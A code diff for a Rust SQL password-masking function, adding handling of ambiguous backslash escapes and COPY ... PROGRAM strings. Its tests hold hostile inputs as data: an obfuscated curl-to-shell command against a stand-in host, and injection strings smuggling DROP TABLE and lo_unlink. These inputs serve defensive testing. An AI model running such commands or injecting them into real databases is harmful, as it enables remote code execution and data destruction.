@@ -8,7 +8,8 @@ use super::lex::{Kind, Token, lex_all};
 /// The text with its passwords blotted out: the strings behind PASSWORD in statements about roles and user mappings, and the
 /// values of `password=…` within strings, such as connections. A string may be code as well, of a DO block say, and so it is
 /// cut into words as the text is: what is blotted out is a string or a name in quotes, or one run of characters behind
-/// `password=`, and never what stands beside strings or between comments, so that nothing can hide there.
+/// `password=`, and never what stands beside strings or between comments, so that nothing can hide there. Where servers may
+/// read a backslash otherwise, no more is blotted out than is one word in every reading.
 pub fn mask_secrets(sql: &str) -> Cow<'_, str> {
     if !is_suspect(sql) {
         return Cow::Borrowed(sql);
@@ -33,7 +34,8 @@ type Secret = (Range<usize>, &'static str);
 
 fn secrets(sql: &str) -> Vec<Secret> {
     let mut found = Vec::new();
-    for tokens in lex_all(sql).split(|token| token.is_symbol(";")) {
+    let tokens = lex_all(sql);
+    for tokens in tokens.split(|token| token.is_symbol(";")) {
         for (at, token) in tokens.iter().enumerate() {
             let (begin, end) = token.at;
             match &token.kind {
@@ -41,12 +43,40 @@ fn secrets(sql: &str) -> Vec<Secret> {
                     found.push((begin..end_of_role(tokens, sql).unwrap_or(end), MASK));
                 }
                 Kind::String(_) if is_announced(tokens, at) => found.push((begin..end, MASK)),
+                // A command for a shell, which finds code in anything.
+                Kind::String(_) if is_program(tokens, at) => {}
                 Kind::String(_) => found.extend(secrets_within(sql, begin..end, 0)),
                 _ => {}
             }
         }
     }
+    if !tokens.iter().all(|token| is_settled(sql, token)) {
+        found.iter_mut().for_each(|(place, _)| *place = one_word(sql, place.clone()));
+    }
     found
+}
+
+/// Whether every server takes a token for the same, whatever its `standard_conforming_strings` and `client_encoding`: a
+/// backslash before a quote may escape it or not, and one behind another character may be a part of it.
+fn is_settled(sql: &str, token: &Token) -> bool {
+    let Kind::String(_) = &token.kind else { return true };
+    let text = sql.get(token.at.0..token.at.1).unwrap_or_default();
+    let foreign = || text.split('\\').rev().skip(1).any(|before| before.ends_with(|c: char| !c.is_ascii()));
+    match text.starts_with(['e', 'E']) {
+        true => !foreign(),
+        false => text.starts_with('$') || !text.contains("\\'"),
+    }
+}
+
+/// The front of a secret that is one word, behind its quote if it has one.
+fn one_word(sql: &str, secret: Range<usize>) -> Range<usize> {
+    let text = sql.get(secret.clone()).unwrap_or_default();
+    let quotes = ["'", "\"", "$", "e'", "E'", "u&'", "U&'", "u&\"", "U&\""];
+    let open = quotes.iter().find(|quote| text.starts_with(**quote)).map_or(0, |quote| quote.len());
+    let word = text.get(open..).unwrap_or_default();
+    let length = word.find(|c: char| !c.is_alphanumeric()).unwrap_or(word.len());
+    let closed = open > 0 && word.len() == length + 1 && word.ends_with(['\'', '"', '$']);
+    secret.start..secret.start + open + length + usize::from(closed)
 }
 
 /// The end of a statement about a role in which a quote is missing: where its secret ends, nobody can tell.
@@ -143,11 +173,18 @@ fn run(text: &str, behind: usize) -> Option<Range<usize>> {
     }
     let value = rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || "=:>".contains(c));
     let begin = text.len() - value.len();
-    let assigned = rest.get(..rest.len() - value.len())?.contains(['=', ':']);
+    let between = rest.get(..rest.len() - value.len())?;
+    // What is assigned by these is an expression, and what is secret of it a string.
+    let assigned = between.contains(['=', ':']) && !between.contains(":=") && !between.contains("=>");
     let value = value.get(..visible(value))?;
     let length = value.find(|c: char| c.is_whitespace() || "'\"&,;)}".contains(c)).unwrap_or(value.len());
     let length = value.get(..length)?.find("/*").unwrap_or(length);
     (length > 0 && assigned).then_some(begin..begin + length)
+}
+
+/// What stands behind PROGRAM, in a COPY.
+fn is_program(tokens: &[Token], at: usize) -> bool {
+    at.checked_sub(1).and_then(|at| tokens.get(at)).is_some_and(|before| before.is("program"))
 }
 
 /// `PASSWORD 'x'`, `password = 'x'`, `OPTIONS (password 'x')`, `set_config('password', 'x')`
@@ -231,6 +268,36 @@ const LONGEST: usize = 1_024;
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn nothing_hides_where_a_backslash_may_be_read_in_two_ways() {
+        for (sql, must_show) in [
+            ("ALTER ROLE me PASSWORD '\\''; DROP TABLE t; SELECT 'x'", "; DROP TABLE t; SELECT 'x'"),
+            ("SELECT '\\' , PASSWORD ' , evil(1) --'", " , evil(1) --'"),
+            ("ALTER ROLE me PASSWORD E'\u{fffd}\\'; DROP TABLE t; SELECT 'x'", "; DROP TABLE t; SELECT 'x'"),
+            ("SELECT E'\u{fffd}\\\\' || PASSWORD '; DROP TABLE t; --'", "; DROP TABLE t; --'"),
+            ("SELECT 'password=''\\'''; DROP TABLE t; --'''", "; DROP TABLE t; --'''"),
+        ] {
+            let masked = mask_secrets(sql);
+            assert!(masked.contains(must_show), "{sql}: {masked}");
+        }
+        // A word is one in every reading.
+        let settled = "ALTER ROLE a PASSWORD 's3cret'; SELECT '\\'";
+        assert_eq!(mask_secrets(settled), "ALTER ROLE a PASSWORD '***'; SELECT '\\'");
+        let escaped = "ALTER ROLE a PASSWORD E's3\\'cret'";
+        assert_eq!(mask_secrets(escaped), "ALTER ROLE a PASSWORD '***'");
+    }
+
+    #[test]
+    fn what_is_run_is_no_password() {
+        for sql in [
+            "COPY t FROM PROGRAM 'password=`curl$IFS-s$IFS$9http://x/y|sh`'",
+            "DO $$ DECLARE password int; BEGIN password:=lo_unlink(16384); END $$",
+            "DO $$ BEGIN PERFORM f(password => lo_unlink(16384)); END $$",
+        ] {
+            assert_eq!(mask_secrets(sql), sql);
+        }
+    }
 
     #[test]
     fn passwords_are_blotted_out_and_nothing_else() {
